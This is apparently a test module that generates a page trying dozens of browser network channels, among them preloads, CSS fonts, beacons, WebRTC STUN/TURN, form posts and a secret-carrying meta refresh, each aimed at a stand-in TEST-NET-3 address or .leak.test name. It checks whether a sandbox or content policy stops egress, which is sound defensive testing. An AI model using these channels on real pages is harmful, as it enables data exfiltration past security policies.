// A page that tries every way out of a browser we know of. Each way has an address (TEST-NET-3) or a name of its own,
// so that a listener can tell which of them got out.

const markup = {
  stylesheet: (at) => `<link rel="stylesheet" href="http://${at}/a.css">`,
  icon: (at) => `<link rel="icon" href="http://${at}/a.ico">`,
  manifest: (at) => `<link rel="manifest" href="http://${at}/a.json" crossorigin="use-credentials">`,
  modulePreload: (at) => `<link rel="modulepreload" href="http://${at}/a.js">`,
  prefetch: (at) => `<link rel="prefetch" href="http://${at}/a">`,
  preload: (at) => `<link rel="preload" as="image" href="http://${at}/a.png">`,
  preconnect: (at) => `<link rel="preconnect" href="http://${at}">`,
  styleImport: (at) => `<style>@import url(http://${at}/b.css);</style>`,
  styleFont: (at) =>
    `<style>@font-face{font-family:far;src:url(http://${at}/a.woff)}p{font-family:far}</style>`,
  styleBackground: (at) => `<style>body{background:url(http://${at}/b.png)}</style>`,
  image: (at) => `<img src="http://${at}/c.png">`,
  imageSet: (at) => `<img srcset="http://${at}/d.png 1x">`,
  frame: (at) => `<iframe src="http://${at}/"></iframe>`,
  object: (at) => `<object data="http://${at}/"></object>`,
  embed: (at) => `<embed src="http://${at}/">`,
  video: (at) => `<video src="http://${at}/a.mp4" autoplay muted></video>`,
  poster: (at) => `<video poster="http://${at}/e.png"></video>`,
  audio: (at) => `<audio src="http://${at}/a.mp3" preload="auto"></audio>`,
  inputImage: (at) => `<input type="image" src="http://${at}/f.png">`,
  drawing: (at) => `<svg width="9" height="9"><image href="http://${at}/g.png" width="9" height="9"/></svg>`,
  script: (at) => `<script src="http://${at}/a.js"></script>`,
};

const scripted = {
  fetch: (at) => `fetch('http://${at}/', { mode: 'no-cors' })`,
  request: (at) => `const asked = new XMLHttpRequest(); asked.open('GET', 'http://${at}/'); asked.send()`,
  socket: (at) => `new WebSocket('ws://${at}/')`,
  events: (at) => `new EventSource('http://${at}/')`,
  beacon: (at) => `navigator.sendBeacon('http://${at}/', 'x')`,
  transport: (at) => `new WebTransport('https://${at}:443/')`,
  scriptedImage: (at) => `new Image().src = 'http://${at}/h.png'`,
  module: (at) => `import('http://${at}/b.js')`,
  worker: (at) =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://${at}/', { mode: 'no-cors' })"])))`,
  fontFace: (at) => `new FontFace('farther', 'url(http://${at}/b.woff)').load()`,
  laterPreconnect: (at) => `add('link', { rel: 'preconnect', href: 'http://${at}' })`,
  form: (at) => `
    add('iframe', { name: 'hidden' });
    add('form', { action: 'http://${at}/', method: 'post', target: 'hidden' }).submit()`,
  frameNavigation: (at) => `add('iframe', {}).contentWindow.location = 'http://${at}/'`,
  ping: (at) => `
    const link = add('a', { href: '#', ping: 'http://${at}/' });
    link.click()`,
  window: (at) => `window.open('http://${at}/')`,
  stun: (at) => `call({ urls: 'stun:${at}:3478' })`,
  turn: (at) => `call({ urls: 'turn:${at}:3478?transport=tcp', username: 'a', credential: 'b' })`,
  turnDatagrams: (at) => `call({ urls: 'turn:${at}:3478?transport=udp', username: 'a', credential: 'b' })`,
  prefetchRule: (at) => `rule({ prefetch: [{ source: 'list', urls: ['http://${at}/'] }] })`,
};

const named = {
  namePrefetch: (name) => `add('link', { rel: 'dns-prefetch', href: '//${name}' })`,
  namePreconnect: (name) => `add('link', { rel: 'preconnect', href: 'http://${name}' })`,
  nameImage: (name) => `new Image().src = 'http://${name}/i.png'`,
  nameStun: (name) => `call({ urls: 'stun:${name}:3478' })`,
  nameFetch: (name) => `fetch('http://${name}/', { mode: 'no-cors' })`,
};

const addressed = [...Object.keys(markup), ...Object.keys(scripted), 'navigation'];

/** The ways out: name, and the address or host name that only this way would ask. */
export const channels = [
  ...addressed.map((name, n) => ({ name, target: `203.0.113.${n + 1}` })),
  ...Object.keys(named).map((name) => ({ name, target: `${name.toLowerCase()}.leak.test` })),
];

const leadAwaySeconds = 2;

/** How long a visit goes on after the script ran, for the last way, leading the page itself away, to be over. */
export const visitMilliseconds = leadAwaySeconds * 1_000 + 500;

const helpers = `
  const add = (tag, members) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(members)) made.setAttribute(name, value);
    document.body.append(made);
    return made;
  };
  const call = (server) => {
    const peer = new RTCPeerConnection({ iceServers: [server] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const rule = (rules) => {
    const made = document.createElement('script');
    made.type = 'speculationrules';
    made.textContent = JSON.stringify(rules);
    document.head.append(made);
  };`;

/**
 * The script part alone, for a page that has a policy of its own. The last thing it does is to ask its own origin for
 * `/ran.png`: without that, silence would prove nothing.
 */
export function hostileScript() {
  const target = Object.fromEntries(channels.map((one) => [one.name, one.target]));
  const attempts = Object.entries({ ...scripted, ...named }).map(
    ([name, way]) => `try { (() => { ${way(target[name])} })() } catch {}`,
  );
  return `{${helpers}\n${attempts.join('\n')}\nsetTimeout(() => { new Image().src = '/ran.png' }, 1_000);}`;
}

export function hostilePage() {
  const target = Object.fromEntries(channels.map((one) => [one.name, one.target]));
  const elements = Object.entries(markup).map(([name, way]) => way(target[name]));
  return [
    '<!doctype html><title>한글</title>',
    `<meta http-equiv="refresh" content="${leadAwaySeconds};url=http://${target.navigation}/away?secret=1">`,
    '<body><p>한글',
    ...elements,
    `<script>${hostileScript()}</script>`,
  ].join('\n');
}

/** Which of the ways got out, by name. */
export function leaks({ destinations, names }) {
  return channels
    .filter(
      ({ target }) => names.includes(target) || destinations.some((one) => one.split(/[ :]/)[1] === target),
    )
    .map(({ name }) => name);
}
